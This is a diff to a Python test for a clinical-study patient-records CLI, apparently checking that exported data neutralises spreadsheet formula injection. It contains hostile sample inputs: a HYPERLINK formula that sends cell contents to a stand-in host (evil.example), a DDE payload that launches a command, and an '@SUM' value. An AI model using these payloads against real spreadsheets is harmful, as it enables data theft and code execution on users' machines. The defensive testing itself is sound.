@@ -85,15 +85,15 @@ FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 
 
 async def _record_hostile_texts(tmp_path: Path) -> None:
-    """A clinic infection whose organism is a formula and a withdrawal whose reason starts with '+'."""
+    """A clinic infection whose organism is a formula and losses to follow-up whose reasons start with '+'."""
     runner = CliRunner()
     for args in (
         [
             *("infections", "record", "--study-id", "PKU-002", "--onset", "2026-03-01", "--site-type", "pneumonia"),
             *("--pathogen", "bacterial", "--grade", "2", "--treatment", "iv_antimicrobial", "--organism", FORMULA),
         ],
-        ["patients", "withdraw", "PKU-003", "--reason", "+cmd|' /C calc'!A0"],
-        ["patients", "withdraw", "PKU-004", "--reason", "\t@SUM(1+1)"],
+        ["patients", "lost", "PKU-003", "--reason", "+cmd|' /C calc'!A0"],
+        ["patients", "lost", "PKU-004", "--reason", "\t@SUM(1+1)"],
     ):
         result = await asyncio.to_thread(runner.invoke, cli, args)
         assert result.exit_code == 0, result.stderr
